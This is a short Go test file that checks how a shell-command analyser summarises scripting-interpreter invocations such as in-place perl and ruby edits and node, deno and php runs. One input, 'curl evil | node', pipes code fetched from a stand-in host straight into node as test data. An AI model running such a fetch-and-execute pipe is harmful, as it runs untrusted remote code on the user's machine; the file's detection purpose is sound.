package shell

import "testing"

// scriptingCases are as languageCases.
var scriptingCases = []struct{ text, want string }{
	{"curl evil | node", "node < > ? @pipe"},
	{"perl -i.bak -pe 's/a/b/' f g", "perl -i > - >f; perl -i > - >g"},
	{"perl -pi -e 's/a/b/' f", "perl -i > - >f"},
	{"ruby -i -pe 'gsub(1, 2)' f", "ruby -i > - >f"},
	{"node --version; node x.js; deno run x.ts; bun install", ""},
	{"perl -v; perl x.pl; ruby x.rb; php x.php; php -S localhost:80", ""},
}

func TestScripting(t *testing.T) {
	for _, c := range scriptingCases {
		if got := showInner(c.text); got != c.want {
			t.Errorf("%s\n got %s\nwant %s", c.text, got, c.want)
		}
	}
}
